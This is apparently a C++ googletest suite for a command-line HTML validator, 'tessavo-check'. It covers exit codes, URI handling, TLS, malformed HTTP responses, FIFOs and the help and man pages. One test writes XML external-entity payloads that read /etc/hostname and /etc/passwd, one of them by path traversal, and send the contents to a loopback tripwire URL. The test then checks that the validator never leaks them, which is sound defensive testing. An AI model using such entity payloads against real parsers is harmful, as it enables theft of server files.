// tessavo-check run as a program, as a terminal or CI runs it.
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <filesystem>
#include <string>
#include <system_error>
#include <vector>

#include "checker_fixture.h"
#include "tests/net/python_http_server.h"
#include "tests/net/scripted_server.h"
#include "tests/net/test_certificates.h"
#include "tests/support/bounded_wait.h"

namespace {

using TessavoCheckTest = CheckerTest;

TEST_F(TessavoCheckTest, ChecksTheSampleWorkingSet) {
  const Result result = run("samples/sample.tvx");
  EXPECT_EQ(result.status, 1);
  EXPECT_EQ(
      result.output,
      "-------- samples/ascii-valid.html\n"
      "-------- samples/euc-jp-errors.html\n"
      "9:6:E: element \"BLINK\" undefined\n"
      "10:9:E: there is no attribute \"ALIGN\"\n"
      "10:17:E: document type does not allow element \"P\" here; missing one of \"OBJECT\", "
      "\"MAP\", \"BUTTON\" start-tag\n"
      "11:10:E: character \"右\" is not allowed in the value of attribute \"DIR\"\n"
      "11:11:E: value of attribute \"DIR\" cannot be \"右\"; must be one of \"LTR\", \"RTL\"\n"
      "11:12:E: document type does not allow element \"DIV\" here; missing one of "
      "\"OBJECT\", \"MAP\", \"BUTTON\" start-tag\n"
      "12:6:E: end tag for \"B\" omitted, but its declaration does not permit this\n"
      "8:9: start tag was here\n"
      "-------- samples/html2-valid.html\n"
      "-------- samples/iso-2022-jp-errors.html\n"
      "11:9:E: document type does not allow element \"LI\" here; missing one of \"UL\", "
      "\"OL\" start-tag\n"
      "11:21:E: character data is not allowed here\n"
      "11:30:E: end tag for element \"P\" which is not open\n"
      "12:16:E: required attribute \"ALT\" not specified\n"
      "12:16:E: document type does not allow element \"IMG\" here; missing one of \"P\", "
      "\"H1\", \"H2\", \"H3\", \"H4\", \"H5\", \"H6\", \"DIV\", \"ADDRESS\" start-tag\n"
      "-------- samples/shift_jis-valid.html\n"
      "検査終了\n");
}

TEST_F(TessavoCheckTest, ExitStatus) {
  const std::string missing = "--validator '" + folder_ + "none'";
  const struct {
    std::string arguments;
    int status;
  } cases[] = {
      {"samples/ascii-valid.html samples/shift_jis-valid.html", 0},
      {"samples/euc-jp-errors.html", 1},
      {"samples/missing.html", 2},  // "E: 入力ファイルを開けない"
      {"ftp://host/x", 2},          // a target that cannot be checked
      {missing + " samples/ascii-valid.html", 2},
      {"", 2},
      {"--no-such-option samples/ascii-valid.html", 2},
      {"samples/missing.tvx", 2},
      {"samples/ascii-valid.html samples/ascii-valid.html --validator", 2},
  };
  for (const auto& c : cases) EXPECT_EQ(run(c.arguments).status, c.status) << c.arguments;
  const Result missingValidator = run(missing + " samples/ascii-valid.html");
  EXPECT_EQ(missingValidator.output,
            "-------- samples/ascii-valid.html\nE: nsgmls.exeが見つかりません: " + folder_ +
                "none\n検査終了\n");
}

TEST_F(TessavoCheckTest, UnsupportedTargetsAreErrorsNotGaps) {
  const std::string validator = "--validator '" + fakeValidator("v", "") + "'";
  const Result result =
      run(validator + " mailto:a@b samples/ascii-valid.html host:8080/a.html ftp://h/x" +
          " 'http://h/ok and more' http:///ok");
  EXPECT_EQ(result.status, 2);
  EXPECT_EQ(
      result.output,
      "-------- mailto:a@b\n"
      "E: 未知のスキーム：mailto（検査できるのは http、https、file のURIです）\n"
      "-------- host:8080/a.html\n"
      "E: 未知のスキーム：host（ホスト名とポートなら http://host:8080/a.html と書いてください）\n"
      "-------- ftp://h/x\n"
      "E: 未知のスキーム：ftp（検査できるのは http、https、file のURIです）\n"
      "-------- http://h/ok and more\n"
      "E: URIに使えない文字：空白（%20 と書いてください）\n"
      "-------- http:///ok\n"
      "E: ホスト名がない（http://ホスト名/… と書いてください）\n"
      "-------- samples/ascii-valid.html\n\n"
      "検査終了\n");
}

TEST_F(TessavoCheckTest, ChecksHttpsTargets) {
  std::string message;
  // Sets SSL_CERT_FILE, which the checker inherits.
  const TestCertificates* certificates = testCertificates(&message);
  ASSERT_NE(certificates, nullptr) << message;
  PythonHttpServer trusted(folder_ + "samples", &certificates->valid);
  PythonHttpServer selfSigned(folder_ + "samples", &certificates->selfSigned);
  ASSERT_TRUE(trusted.available() && selfSigned.available()) << "needs python3";
  const std::string validator = "--validator '" + fakeValidator("v", "val:x:1:1:E: seen") + "'";
  const std::string good = trusted.url("/ascii-valid.html");
  const std::string bad = selfSigned.url("/ascii-valid.html");
  const Result trustedResult = run(validator + " '" + good + "'");
  EXPECT_EQ(trustedResult.status, 1);  // the validator's message
  EXPECT_EQ(trustedResult.output, "-------- " + good + "\nx:1:1:E: seen\n検査終了\n");
  const Result refused = run(validator + " '" + bad + "'");
  EXPECT_EQ(refused.status, 2);
  EXPECT_EQ(refused.output,
            "-------- " + bad +
                "\nE: ソケットエラー：certificate verify failed (self-signed certificate)\n"
                "検査終了\n");
}

// A listening socket on 127.0.0.1 that nobody should ever connect to.
class Tripwire {
 public:
  Tripwire() : fd_(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t length = sizeof address;
    if (fd_ < 0 || ::bind(fd_, reinterpret_cast<sockaddr*>(&address), length) != 0 ||
        ::listen(fd_, 8) != 0 ||
        ::getsockname(fd_, reinterpret_cast<sockaddr*>(&address), &length) != 0) {
      return;
    }
    url_ = "http://127.0.0.1:" + std::to_string(ntohs(address.sin_port));
  }
  ~Tripwire() {
    if (fd_ >= 0) ::close(fd_);
  }
  // "http://127.0.0.1:<port>", or empty when it could not listen.
  const std::string& url() const { return url_; }
  // Whether a connection is waiting, or was made and closed again.
  bool touched() const {
    pollfd entry{fd_, POLLIN, 0};
    return ::poll(&entry, 1, 0) == 1;
  }

 private:
  int fd_;
  std::string url_;
};

TEST_F(TessavoCheckTest, PagesReachNoNetworkAndDownloadsNoFileOfTheUser) {
  if (std::system("command -v onsgmls >/dev/null") != 0) GTEST_SKIP() << "needs onsgmls";
  const Tripwire tripwire;
  ASSERT_FALSE(tripwire.url().empty());
  const std::string html401 = "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\" [\n";
  const std::string body = "]>\n<title>t</title><p>x<blink>b</blink>\n";
  // A file's contents sent away in a URI, a remote entity, and files of the
  // user by absolute and by relative name.
  writeFile(folder_ + "site/leak.html",
            html401 +
                "<!ENTITY % f SYSTEM \"/etc/hostname\">\n<!ENTITY % e \"<!ENTITY &#37; x SYSTEM '" +
                tripwire.url() + "/leak?%f;'>\">\n%e;%x;\n" + body);
  writeFile(folder_ + "site/files.html",
            html401 +
                "<!ENTITY % p SYSTEM \"/etc/passwd\">\n<!ENTITY % h SYSTEM "
                "\"../../../../../../../../etc/passwd\">\n<!ENTITY % r SYSTEM \"" +
                tripwire.url() + "/remote.ent\">\n%p;%h;%r;\n" + body);
  // The XHTML DTDs still resolve for a download.
  writeFile(folder_ + "site/xhtml.html",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
            "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">\n"
            "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>t</title></head>"
            "<body><p>x<blink>b</blink></p></body></html>\n");
  PythonHttpServer server(folder_ + "site");
  ASSERT_TRUE(server.available()) << "needs python3";
  // A validator that did connect waits for an answer that never comes.
  writeSettings("ValidatorTimeout=5\n");
  const Result downloaded = run("'" + server.url("/leak.html") + "' '" + server.url("/files.html") +
                                "' '" + server.url("/xhtml.html") + "'");
  // A local document is the user's own and reads what it names, but it
  // reaches no network either.
  const Result local = run("site/files.html");
  EXPECT_FALSE(tripwire.touched()) << "the validator connected";
  EXPECT_EQ(downloaded.output.find("root"), std::string::npos) << downloaded.output;
  EXPECT_EQ(downloaded.output.find("not allowed in declaration subset"), std::string::npos)
      << "a file's first character in a message:\n"
      << downloaded.output;
  EXPECT_NE(downloaded.output.find("6:26:E: element \"BLINK\" undefined"), std::string::npos)
      << "the HTML 4.01 DTD did not resolve:\n"
      << downloaded.output;
  EXPECT_NE(downloaded.output.find("3:88:E: element \"blink\" undefined"), std::string::npos)
      << "the XHTML DTD did not resolve:\n"
      << downloaded.output;
  EXPECT_NE(local.output.find("/etc/passwd:1:0:E: character \"r\""), std::string::npos)
      << local.output;
}

// A body that is not what the response claims is never validated: the
// target fails with the reason and the exit status is 2.
TEST_F(TessavoCheckTest, DownloadsThatAreNotWhatTheyClaimAreNotValidated) {
  std::string message;
  const TestCertificates* certificates = testCertificates(&message);
  ASSERT_NE(certificates, nullptr) << message;
  const std::string page = "<p>a</p>\r\n";
  const struct {
    std::string response;
    const char* reason;
    bool cutTls = false;
  } cases[] = {
      {"HTTP/1.1 200 OK\r\nContent-Length: 10\r\nContent-Length: 158\r\n\r\n" + page,
       "two different Content-Length values (10 and 158)"},
      {"HTTP/1.1 200 OK\r\nContent-Length: 10, 158\r\n\r\n" + page,
       "two different Content-Length values (10 and 158)"},
      {"HTTP/1.1 200 OK\r\nContent-Length: abc\r\n\r\n" + page,
       "Content-Length \"abc\" is not a number"},
      {"HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n" + page,
       "Content-Length \"-5\" is not a number"},
      {"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n-5\r\n" + page,
       "the chunk-size line \"-5\" holds no chunk size"},
      {"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n" + page,
       "the chunk-size line \"zz\" holds no chunk size"},
      {"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\n" + page + "0\r\n\r\n",
       "a chunk's data is longer than its size of 3 bytes"},
      {"HTTP/1.1 2000 OK\r\nContent-Length: 10\r\n\r\n" + page,
       "the status line \"HTTP/1.1 2000 OK\" holds no three-digit status code"},
      {"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip\r\n\r\n" + page,
       "Transfer-Encoding \"gzip\" is not decoded"},
      {"HTTP/1.1 200 OK\r\nContent-Encoding: br\r\nContent-Length: 10\r\n\r\n" + page,
       "Content-Encoding \"br\" is not decoded"},
      {"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n" + page,
       "the TLS connection ended without close_notify after 10 bytes", true},
  };
  const std::string validator =
      "--validator '" + scriptValidator("v", "touch '" + folder_ + "validated'") + "'";
  for (const auto& c : cases) {
    ConnectionScript script = answering({c.response}, false);
    script.cutTls = c.cutTls;
    PeerOptions options;
    if (c.cutTls) options.tls = &certificates->valid;
    ScriptedServer server({script}, options);
    const std::string url = server.url("/page.html");
    const Result result = run(validator + " '" + url + "'");
    EXPECT_EQ(result.status, 2) << c.reason;
    EXPECT_EQ(result.output,
              "-------- " + url + "\nE: ダウンロードに失敗：" + c.reason + "\n検査終了\n");
  }
  EXPECT_FALSE(std::filesystem::exists(folder_ + "validated"));
}

// Nothing the checker reads is waited on or read without end: a FIFO or
// device in the place of a working set, a shortcut (given, or found in a
// folder) or the settings file is refused or ignored at once.
TEST_F(TessavoCheckTest, FifosAndDevicesAreNeverWaitedOn) {
  shell("cd '" + folder_ + "' && mkfifo w.tvx link.url && mkdir dir && mkfifo dir/x.url && " +
        "ln -s /dev/zero zero.url && mkfifo config/Marrowby/Tessavo.conf");
  const std::string validator = fakeValidator("v", "");
  const std::string refused = "E: 入力ファイルを開けない: ";
  const struct {
    std::vector<std::string> arguments;
    int status;
    std::string output;
  } cases[] = {
      {{"w.tvx"}, 2, ""},
      {{"link.url", "zero.url", "dir"},
       2,
       "-------- link.url\n" + refused + "link.url: not a regular file\n-------- zero.url\n" +
           refused + "zero.url: not a regular file\n-------- dir/x.url\n" + refused +
           "dir/x.url: not a regular file\n検査終了\n"},
      {{"samples/ascii-valid.html"}, 0, "-------- samples/ascii-valid.html\n\n検査終了\n"},
  };
  for (const auto& c : cases) {
    std::vector<std::string> arguments{"--validator", validator};
    arguments.insert(arguments.end(), c.arguments.begin(), c.arguments.end());
    const pid_t checker = start(arguments, folder_ + "out");
    ASSERT_GT(checker, 0);
    const int status = waitFor(checker, 5000);
    ASSERT_NE(status, -1) << c.arguments[0] << ": still running after 5 seconds";
    EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == c.status) << c.arguments[0];
    EXPECT_EQ(readFile(folder_ + "out"), c.output) << c.arguments[0];
  }
}

// Collecting the targets may take long (here a working set of 200 GB, all
// but its first line holes); a stop signal ends the checker then too.
TEST_F(TessavoCheckTest, SignalEndsTheCollectionOfTargets) {
  shell("cd '" + folder_ + "' && printf 'tvx1\\n' > huge.tvx && truncate -s 200G huge.tvx");
  const pid_t checker = start({"huge.tvx"}, folder_ + "out");
  ASSERT_GT(checker, 0);
  const std::string fd = "/proc/" + std::to_string(checker) + "/fd/";
  ASSERT_TRUE(test_support::waitUntil(
      [&] {
        std::error_code ignored;
        for (const auto& entry : std::filesystem::directory_iterator(fd, ignored)) {
          if (std::filesystem::read_symlink(entry, ignored).filename() == "huge.tvx") return true;
        }
        return false;
      },
      "the checker reading huge.tvx"));
  ::kill(checker, SIGTERM);
  const int status = waitFor(checker, 2000);
  ASSERT_NE(status, -1) << "still running two seconds after SIGTERM";
  EXPECT_TRUE(WIFSIGNALED(status) && WTERMSIG(status) == SIGTERM) << status;
}

TEST_F(TessavoCheckTest, HelpExplainsAndSucceeds) {
  const Result result = run("--help");
  EXPECT_EQ(result.status, 0);
  EXPECT_EQ(result.output.rfind("Usage: tessavo-check [OPTION]... TARGET...\n", 0), 0u);
  for (const char* option : {"--format", "--jobs", "--max-errors", "--warnings-are-errors",
                             "--validator", "Exit status:"}) {
    EXPECT_NE(result.output.find(option), std::string::npos) << option;
  }
}

TEST_F(TessavoCheckTest, ValidatorComesFromOptionThenSettings) {
  const std::string fromSettings = fakeValidator("from settings", "val:x:1:1:E: settings");
  fakeValidator("from option", "val:x:1:1:E: option");
  // As wxFileConfig writes it: blanks in names escaped, values quoted when
  // they end in a blank.
  writeSettings("SP\\ Location=\"" + fromSettings + "\"\n");
  EXPECT_EQ(run("samples/ascii-valid.html").output,
            "-------- samples/ascii-valid.html\nx:1:1:E: settings\n検査終了\n");
  EXPECT_EQ(run("--validator '" + folder_ + "from option' samples/ascii-valid.html").output,
            "-------- samples/ascii-valid.html\nx:1:1:E: option\n検査終了\n");
  EXPECT_EQ(run("--validator='" + folder_ + "from option' samples/ascii-valid.html").output,
            "-------- samples/ascii-valid.html\nx:1:1:E: option\n検査終了\n");
}

TEST_F(TessavoCheckTest, TargetsAreCollectedAsTheWindowDoes) {
  for (const char* name : {"B.htm", "a.html", "c.txt", "sub/d.shtml"}) {
    writeFile(folder_ + "site/" + name, "<!DOCTYPE x SYSTEM \"x.dtd\">");
  }
  writeFile(folder_ + "site/e.url", "[InternetShortcut]\r\nURL=ftp://h/\r\n");
  const std::string validator = "--validator '" + fakeValidator("v", "") + "'";
  // Targets are listed in the file list's order: by location, case ignored.
  // A shortcut to a URI that cannot be checked comes first, with the reason.
  const Result folder = run(validator + " site");
  EXPECT_EQ(
      folder.output,
      "-------- site/e.url\n"
      "E: 未知のスキーム：ftp（検査できるのは http、https、file のURIです）：ftp://h/\n"
      "-------- site/a.html\n\n-------- site/B.htm\n\n-------- site/sub/d.shtml\n\n検査終了\n");
  EXPECT_EQ(folder.status, 2);
  // A URI text is a URI (a file: URI gives its path); "--" ends the options.
  const Result uri = run(validator + " -- file:///" + folder_.substr(1) + "site/a.html");
  EXPECT_EQ(uri.output, "-------- " + folder_ + "site/a.html\n\n検査終了\n");
  // Any other file is a target, whatever its extension.
  EXPECT_EQ(run(validator + " site/c.txt").output, "-------- site/c.txt\n\n検査終了\n");
}

}  // namespace

namespace {

// A command's standard output, and whether it ended with status 0.
std::pair<std::string, bool> commandOutput(const std::string& command) {
  std::string text;
  std::FILE* pipe = ::popen(command.c_str(), "r");
  if (pipe == nullptr) return {"", false};
  char buffer[4096];
  std::size_t got;
  while ((got = std::fread(buffer, 1, sizeof buffer, pipe)) > 0) text.append(buffer, got);
  return {text, ::pclose(pipe) == 0};
}

TEST_F(TessavoCheckTest, ManPageFormatsCleanlyAndTellsEveryOptionOfTheHelp) {
  if (std::system("command -v man >/dev/null") != 0) GTEST_SKIP() << "needs man";
  // Warnings of the formatter (a bad request, a line it cannot fit) come on
  // standard error, which the test takes in.
  const auto [page, formatted] =
      commandOutput("MANWIDTH=80 LC_ALL=C.UTF-8 man --warnings -l '" TESSAVO_SOURCE_DIR
                    "/data/man/tessavo-check.1' 2>&1");
  ASSERT_TRUE(formatted) << page;
  EXPECT_NE(page.find("TESSAVO-CHECK(1)"), std::string::npos) << page;
  for (const char* text : {"--format", "--jobs", "--max-errors", "--warnings-are-errors",
                           "--validator", "--help", "EXIT STATUS",
                           "errorformat=%f:%l:%c:\\ "
                           "%t%*[^:]:\\ %m",
                           "could not check", "MaxErrors"}) {
    EXPECT_NE(page.find(text), std::string::npos) << text;
  }
  EXPECT_EQ(page.find("troff"), std::string::npos) << page;
  // Every long option the program explains is in the page.
  const Result help = run("--help");
  for (std::size_t at = help.output.find("  --"); at != std::string::npos;
       at = help.output.find("  --", at + 1)) {
    const std::string option =
        help.output.substr(at + 2, help.output.find_first_of(" \n", at + 2) - at - 2);
    EXPECT_NE(page.find(option), std::string::npos) << option;
  }
}

TEST_F(TessavoCheckTest, BashCompletesTheOptionsAndFormats) {
  const std::string script = TESSAVO_SOURCE_DIR "/data/completion/tessavo-check";
  writeFile(folder_ + "site/page.html", "");
  const struct {
    const char* words;  // as bash splits the line; the last is completed
    const char* offered;
  } cases[] = {
      {"tessavo-check --fo", "--format"},
      {"tessavo-check --w", "--warnings-are-errors"},
      {"tessavo-check --j", "--jobs"},
      {"tessavo-check --format \"\"", "text gnu json"},
      {"tessavo-check --format j", "json"},
      {"tessavo-check --format = g", "gnu"},
      {"tessavo-check -j \"\"", ""},
      {"tessavo-check --max-errors 1", ""},
      {"tessavo-check site/p", "site/page.html"},
      {"tessavo-check --validator site/", "site/page.html"},
      {"tessavo-check -- --f", ""},
  };
  for (const auto& c : cases) {
    const std::string command = "cd '" + folder_ + "' && bash -c 'source \"$0\"; COMP_WORDS=(" +
                                std::string(c.words) +
                                "); COMP_CWORD=$((${#COMP_WORDS[@]} - 1)); _tessavo_check; "
                                "echo ${COMPREPLY[*]}; complete -p tessavo-check' '" +
                                script + "' 2>&1";
    const auto [output, ok] = commandOutput(command);
    EXPECT_TRUE(ok) << c.words << ": " << output;
    EXPECT_EQ(output, std::string(c.offered) + "\ncomplete -F _tessavo_check tessavo-check\n")
        << c.words;
  }
}

}  // namespace
